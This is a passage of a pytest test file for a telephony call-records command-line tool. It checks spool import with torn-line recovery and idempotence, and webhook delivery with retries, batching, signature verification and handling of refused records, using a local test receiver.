    result = run(capsys, "import-spool")
    assert result.code == 3  # all whole records in; some lines wait for the operator
    assert f"imported 2 call record(s) from {spool}" in result.out
    assert "line 2: not a call record (JSONDecodeError" in result.err
    (archive,) = spool.parent.glob(f"{spool.name}.imported-*")
    assert archive.read_text() == content  # everything kept, the bad line included
    (aside,) = spool.parent.glob(f"{spool.name}.unreadable-*")
    assert aside.read_text() == content.splitlines()[1] + "\n"  # the torn line, alone
    assert f"1 unreadable line(s) set aside in {aside}; every whole record was imported" in (
        result.err
    )
    assert f"the file is kept as {archive}" in result.out
    assert not spool.exists()
    assert record_store.get("rec-a") == call_a()
    assert record_store.get("rec-b") == call_b()
    assert record_store.count() == 2
    # No webhook was configured, so nothing is queued.
    assert record_store.delivery_state("rec-a").status == "none"

    result = run(capsys, "import-spool")
    assert (result.code, result.out.strip()) == (0, f"nothing to import: no spool at {spool}")
    # A file named on the command line must exist.
    result = run(capsys, "import-spool", "--file", str(spool.parent / "typo.jsonl"))
    assert (result.code, result.err.strip()) == (1, f"error: no file at {spool.parent}/typo.jsonl")


def test_import_spool_recovers_a_record_glued_to_a_torn_line_and_finishes_in_progress_ones(
    database: str, record_store: CallStore, capsys: pytest.CaptureFixture[str]
) -> None:
    """A spool from before appends were atomic: a torn line ran into the next record. And a
    call spooled as it started, then again when it ended: the finished record wins."""
    started = replace(call_c(), outcome=Outcome.IN_PROGRESS)
    record_store.save(replace(call_d(), outcome=Outcome.IN_PROGRESS))
    spool = spool_path(read_settings())
    spool.parent.mkdir(parents=True, exist_ok=True)
    torn = json.dumps(call_e().to_dict())[:80]
    spool.write_text(
        json.dumps(started.to_dict())
        + "\n"
        + torn
        + json.dumps(call_a().to_dict())
        + "\n"
        + json.dumps(call_c().to_dict())
        + "\n"
        + json.dumps(call_d().to_dict())
        + "\n"
    )

    result = run(capsys, "import-spool")
    assert result.code == 3, result.err
    assert "imported 3 call record(s)" in result.out
    assert record_store.get("rec-a") == call_a()
    assert record_store.get("rec-c") == call_c()
    assert record_store.get("rec-d") == call_d()  # the stored in-progress one, finished
    (aside,) = spool.parent.glob(f"{spool.name}.unreadable-*")
    assert aside.read_text() == torn + "\n"


def test_import_spool_is_idempotent_and_queues_only_new_records(
    database: str,
    record_store: CallStore,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("CALL_WEBHOOK_URL", "https://hooks.example.com/calls")
    monkeypatch.setenv("CALL_WEBHOOK_SECRET", "s" * 32)
    record_store.save(call_a(), queue_webhook=True)
    record_store.mark_delivered("rec-a", at=time.time())
    spool = spool_path(read_settings())
    spool.parent.mkdir(parents=True, exist_ok=True)
    spool.write_text(spool_lines(call_a(), call_c()))

    result = run(capsys, "import-spool")
    assert result.code == 0, result.err
    assert "imported 1 call record(s)" in result.out
    assert "(1 already in the database, left as they were)" in result.out
    assert record_store.count() == 2
    assert record_store.delivery_state("rec-a").status == "delivered"  # not sent twice
    assert record_store.delivery_state("rec-c").status == "pending"

    # The same file again (say, restored from the archive): nothing changes.
    spool.write_text(spool_lines(call_a(), call_c()))
    result = run(capsys, "import-spool", "--file", str(spool))
    assert "imported 0 call record(s)" in result.out
    assert record_store.count() == 2


def test_import_spool_leaves_the_spool_alone_when_the_database_is_down(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("DATABASE_URL", "postgresql://u:secretpw@127.0.0.1:9/x")
    spool = spool_path(read_settings())
    spool.parent.mkdir(parents=True, exist_ok=True)
    spool.write_text(spool_lines(call_a()))

    result = run(capsys, "import-spool")
    assert result.code == 1
    assert "cannot reach the call records database" in result.err
    assert spool.read_text() == spool_lines(call_a())
    assert list(spool.parent.glob("*.imported-*")) == []


# ------------------------------------------------------------------ deliver


def test_deliver_without_a_webhook_url(database: str, capsys: pytest.CaptureFixture[str]) -> None:
    result = run(capsys, "deliver")
    assert result.code == 2
    assert result.err.startswith("error: CALL_WEBHOOK_URL is not set")


@dataclass
class FakeReport:
    delivered: int
    failed: int
    gone: int = 0


def test_deliver_retries_queued_deliveries(
    calls: list[CallRecord],
    record_store: CallStore,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Against deliver_pending's signature; a fake stands in for the real one."""
    monkeypatch.setenv("CALL_WEBHOOK_URL", "https://hooks.example.com/calls")
    monkeypatch.setenv("CALL_WEBHOOK_SECRET", "s" * 32)
    seen: list[tuple[str, str, int]] = []

    async def deliver_pending(
        store: CallStore,
        url: str,
        secret: str,
        *,
        now: float | None = None,
        limit: int = 50,
        attempts: int = 3,
        backoff: float = 0.5,
        timeout: float = 10.0,
    ) -> FakeReport:
        seen.append((url, secret, limit))
        claimed = store.claim_deliveries(now=time.time() if now is None else now, limit=limit)
        for record in claimed:
            store.mark_delivered(record.record_id, at=time.time())
        return FakeReport(delivered=len(claimed), failed=0)

    monkeypatch.setattr(webhook, "deliver_pending", deliver_pending)

    result = run(capsys, "deliver", "--limit", "10")
    assert result.code == 0, result.err
    assert result.out.startswith("delivered 1, failed 0")
    assert seen == [("https://hooks.example.com/calls", "s" * 32, 10)]
    assert record_store.delivery_state("rec-a").status == "delivered"

    async def failing(store: CallStore, url: str, secret: str, **_: object) -> FakeReport:
        return FakeReport(delivered=0, failed=2)

    monkeypatch.setattr(webhook, "deliver_pending", failing)
    result = run(capsys, "deliver")
    assert result.code == 1
    assert result.out.startswith("delivered 0, failed 2")
    assert "retried later" in result.err


def test_deliver_needs_the_webhook_secret_too(
    database: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CALL_WEBHOOK_URL", "https://hooks.example.com/calls")
    result = run(capsys, "deliver")
    assert result.code == 2
    assert "  - CALL_WEBHOOK_SECRET is not set" in result.err


def test_deliver_sends_every_due_batch_up_to_the_limit(
    database: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CALL_WEBHOOK_URL", "https://hooks.example.com/calls")
    monkeypatch.setenv("CALL_WEBHOOK_SECRET", "s" * 32)
    due = 107
    batches: list[int] = []

    async def deliver_pending(
        store: CallStore, url: str, secret: str, *, limit: int = 50, timeout: float = 10.0
    ):
        nonlocal due
        batches.append(limit)
        sent = min(limit, due)
        due -= sent
        return FakeReport(delivered=sent, failed=0)

    monkeypatch.setattr(webhook, "deliver_pending", deliver_pending)

    result = run(capsys, "deliver", "--limit", "60")
    assert (result.code, result.out.strip(), batches) == (0, "delivered 60, failed 0", [50, 10])

    batches.clear()
    result = run(capsys, "deliver")
    assert (result.code, result.out.strip(), batches) == (0, "delivered 47, failed 0", [50])

    result = run(capsys, "deliver")
    assert result.out.strip() == "nothing to deliver: no queued webhook delivery is due"


class Receiver(ThreadingHTTPServer):
    """A webhook receiver on 127.0.0.1 answering every POST with `status`."""

    def __init__(self, status: int) -> None:
        self.status = status
        self.posts: list[tuple[dict[str, str], bytes]] = []
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                receiver.posts.append((dict(self.headers), body))
                self.send_response(receiver.status)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, format: str, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/calls"


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    server = Receiver(status=204)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def test_deliver_with_the_real_webhook_module(
    calls: list[CallRecord],
    record_store: CallStore,
    receiver: Receiver,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    webhook = pytest.importorskip("telephony.records.webhook")
    secret = "s" * 32
    monkeypatch.setenv("CALL_WEBHOOK_URL", receiver.url)
    monkeypatch.setenv("CALL_WEBHOOK_SECRET", secret)

    result = run(capsys, "deliver")
    assert (result.code, result.out.strip()) == (0, "delivered 1, failed 0"), result.err
    ((headers, body),) = receiver.posts
    assert webhook.verify(
        body, secret, headers["X-Call-Record-Signature"], headers["X-Call-Record-Id"]
    )
    assert CallRecord.from_dict(json.loads(body)) == call_a()
    assert record_store.delivery_state("rec-a").status == "delivered"

    # A receiver that refuses: the record stays queued, the command says so.
    receiver.status = 400
    record_store.save(call_c(), queue_webhook=True)
    result = run(capsys, "deliver")
    assert (result.code, result.out.strip()) == (1, "delivered 0, failed 1")
    state = record_store.delivery_state("rec-c")
    assert (state.status, state.attempts, state.last_error) == ("pending", 1, "HTTP 400")

    # The operator fixed the receiver: "deliver" sends now, not after the retry delay.
    assert state.next_attempt_at is not None and state.next_attempt_at > time.time()
    receiver.status = 200
    result = run(capsys, "deliver")
    assert (result.code, result.out.strip()) == (0, "delivered 1, failed 0"), result.err
    assert record_store.delivery_state("rec-c").status == "delivered"


def test_deliver_stops_a_record_the_receiver_says_is_gone(
    calls: list[CallRecord],
    record_store: CallStore,
    receiver: Receiver,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("CALL_WEBHOOK_URL", receiver.url)
    monkeypatch.setenv("CALL_WEBHOOK_SECRET", "s" * 32)
    receiver.status = 410

    result = run(capsys, "deliver")

    assert (result.code, result.out.strip()) == (1, "delivered 0, failed 0, refused (410 Gone) 1")
    assert "never sent again" in result.err
    assert len(receiver.posts) == 1
    receiver.status = 200
    result = run(capsys, "deliver")
    assert result.out.strip() == "nothing to deliver: no queued webhook delivery is due"
    assert len(receiver.posts) == 1
    lines = run(capsys, "show", "rec-a").lines
    assert "stopped: the receiver refused it for good after 1 attempt(s); never sent again" in lines
    assert "reason: HTTP 410 Gone" in lines


# ------------------------------------------------------------------ the real entry point


@pytest.mark.e2e
def test_python_dash_m_telephony_calls_list(database: str, record_store: CallStore) -> None:
    record_store.save(call_a())
    # Every setting present but empty: a developer's .env.local cannot leak in.
    env = os.environ | dict.fromkeys(SETTING_NAMES, "") | {"DATABASE_URL": database, "TZ": TZ}
    result = subprocess.run(
        [sys.executable, "-m", "telephony", "calls", "list"],
        cwd=PROJECT_ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines()[0].split()[:2] == ["started", "direction"]
    assert " ".join(result.stdout.splitlines()[1].split()) == (
        "2024-05-01 09:30 inbound +15105550101 completed 1:35 - SCL_a"
    )
